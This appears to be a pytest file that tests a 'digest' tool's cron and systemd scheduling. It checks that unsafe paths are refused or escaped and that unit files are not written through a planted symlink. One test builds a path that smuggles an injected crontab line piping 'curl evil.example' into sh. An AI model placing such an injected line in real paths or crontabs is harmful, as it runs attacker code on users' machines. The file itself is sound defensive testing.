"""digest schedule: the printed cron line and systemd units, and installing them in a temp HOME."""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path

import pytest

from digest.schedule import (
    CRON_MARK,
    ScheduleError,
    crontab_line,
    install_schedule,
    parse_time,
    schedule_text,
    systemd_units,
)


def test_parse_time():
    assert parse_time("07:00") == (7, 0) and parse_time("7:05") == (7, 5) and parse_time("23:59") == (23, 59)
    for bad in ("24:00", "7", "07:60", "seven", ""):
        with pytest.raises(ScheduleError, match="HH:MM"):
            parse_time(bad)


def test_printed_text_has_cron_line_and_both_units(tmp_path):
    cfg = tmp_path / "my digest.toml"
    text = schedule_text(at="06:45", config=cfg)
    line = crontab_line("06:45", cfg)
    assert line.startswith("45 6 * * * ") and line in text
    assert f"-m digest daily --config '{cfg}' --no-progress" in line
    assert sys.executable in line and CRON_MARK in line
    units = systemd_units("06:45", cfg)
    assert "OnCalendar=*-*-* 06:45:00" in units["digest-daily.timer"]
    assert "Persistent=true" in units["digest-daily.timer"]
    assert f'ExecStart={sys.executable} -m digest daily --config "{cfg}" --no-progress' in units["digest-daily.service"]
    assert "[Install]\nWantedBy=timers.target" in units["digest-daily.timer"]
    for body in units.values():
        assert body in text


def test_install_systemd_writes_user_units_in_home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    cfg = tmp_path / "digest.toml"
    cfg.write_text("")
    lines = install_schedule(at="07:00", config=cfg, method="systemd", activate=False)
    folder = home / ".config" / "systemd" / "user"
    assert sorted(p.name for p in folder.iterdir()) == ["digest-daily.service", "digest-daily.timer"]
    assert (folder / "digest-daily.timer").read_text() == systemd_units("07:00", cfg)["digest-daily.timer"]
    assert lines[-1] == "now run: systemctl --user daemon-reload && systemctl --user enable --now digest-daily.timer"
    install_schedule(at="08:30", config=cfg, method="systemd", activate=False)  # again: replaced, not added
    assert "08:30:00" in (folder / "digest-daily.timer").read_text()
    assert len(list(folder.iterdir())) == 2


def test_install_cron_replaces_our_line_and_keeps_the_others(tmp_path, monkeypatch):
    # A stand-in `crontab` that keeps the table in a file, as the real one keeps it per user.
    bindir = tmp_path / "bin"
    bindir.mkdir()
    table = tmp_path / "table"
    script = bindir / "crontab"
    script.write_text(
        "#!/bin/sh\n"
        f'if [ "$1" = "-l" ]; then [ -f "{table}" ] || {{ echo "no crontab for $USER" >&2; exit 1; }}; cat "{table}"; '
        f'elif [ "$1" = "-" ]; then cat > "{table}"; else exit 2; fi\n'
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    cfg = tmp_path / "digest.toml"
    cfg.write_text("")
    assert install_schedule(at="07:00", config=cfg, method="cron")[0].startswith("added")
    assert table.read_text() == crontab_line("07:00", cfg) + "\n"
    table.write_text("MAILTO=me\n" + table.read_text() + "0 1 * * * backup\n")
    assert install_schedule(at="05:15", config=cfg, method="cron")[0].startswith("replaced")
    assert table.read_text().splitlines() == ["MAILTO=me", "0 1 * * * backup", crontab_line("05:15", cfg)]


def test_install_refuses_missing_config(tmp_path):
    with pytest.raises(ScheduleError, match="no such config file"):
        install_schedule(at="07:00", config=tmp_path / "nope.toml", method="systemd", activate=False)


# ---------------------------------------------------------------- hostile paths and a crontab that cannot be read


def fake_crontab(tmp_path, monkeypatch, *, listing: str) -> Path:
    """A stand-in `crontab` whose `-l` runs `listing` (shell) and whose `-` saves the new table."""
    bindir = tmp_path / "bin"
    bindir.mkdir(exist_ok=True)
    table = tmp_path / "table"
    script = bindir / "crontab"
    script.write_text(
        f'#!/bin/sh\nif [ "$1" = "-l" ]; then {listing}\nelif [ "$1" = "-" ]; then cat > "{table}"; else exit 2; fi\n'
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    return table


def test_cron_install_refuses_when_the_crontab_cannot_be_read(tmp_path, monkeypatch):
    cfg = tmp_path / "digest.toml"
    cfg.write_text("")
    for listing in (
        'echo "crontab: cannot open /var/spool/cron: Permission denied" >&2; exit 1',
        "echo '0 1 * * * backup'; exit 1",  # half a listing and a failure: still not trusted
        "kill -9 $$",
    ):
        table = fake_crontab(tmp_path, monkeypatch, listing=listing)
        with pytest.raises(ScheduleError, match="cannot read your crontab.*nothing was installed"):
            install_schedule(at="07:00", config=cfg, method="cron")
        assert not table.exists()  # `crontab -` was never run: the user's table is untouched


def test_cron_install_keeps_every_other_line_byte_for_byte(tmp_path, monkeypatch):
    cfg = tmp_path / "digest.toml"
    cfg.write_text("")
    listing = tmp_path / "listing"
    other = [b"# my jobs", b"MAILTO=me@example.org", b"", b"0 1 * * * backup --label caf\xe9", b"@reboot  x   y"]
    listing.write_bytes(b"\n".join([*other, crontab_line("06:00", cfg).encode()]))  # no final newline
    table = fake_crontab(tmp_path, monkeypatch, listing=f'cat "{listing}"')
    assert install_schedule(at="07:00", config=cfg, method="cron")[0].startswith("replaced")
    assert table.read_bytes() == b"\n".join([*other, crontab_line("07:00", cfg).encode()]) + b"\n"


def test_paths_with_a_newline_are_refused_everywhere(tmp_path, monkeypatch):
    folder = tmp_path / "x\n* * * * * curl evil.example | sh\n"
    folder.mkdir()
    cfg = folder / "digest.toml"
    cfg.write_text("")
    for make in (
        lambda: crontab_line("07:00", cfg),
        lambda: systemd_units("07:00", cfg),
        lambda: schedule_text(at="07:00", config=cfg),
        lambda: install_schedule(at="07:00", config=cfg, method="systemd", activate=False),
    ):
        with pytest.raises(ScheduleError, match="newline or another control character"):
            make()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    assert not (tmp_path / "home").exists()


def test_percent_and_dollar_are_escaped(tmp_path):
    folder = tmp_path / "100%$HOME"
    folder.mkdir()
    cfg = folder / "digest.toml"
    line = crontab_line("07:00", cfg)
    assert "100\\%$HOME" in line and "100%$" not in line.replace("\\%", "")
    service = systemd_units("07:00", cfg)["digest-daily.service"]
    assert f"WorkingDirectory={tmp_path}/100%%$HOME\n" in service
    assert f'--config "{tmp_path}/100%%$$HOME/digest.toml"' in service


def test_unit_files_are_not_written_through_a_planted_symlink(tmp_path, monkeypatch):
    home = tmp_path / "home"
    folder = home / ".config" / "systemd" / "user"
    folder.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (folder / "digest-daily.service.tmp").symlink_to(victim)  # the old fixed temp name
    cfg = tmp_path / "digest.toml"
    cfg.write_text("")
    install_schedule(at="07:00", config=cfg, method="systemd", activate=False)
    assert victim.read_text() == "precious\n"
    assert "ExecStart=" in (folder / "digest-daily.service").read_text()
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]
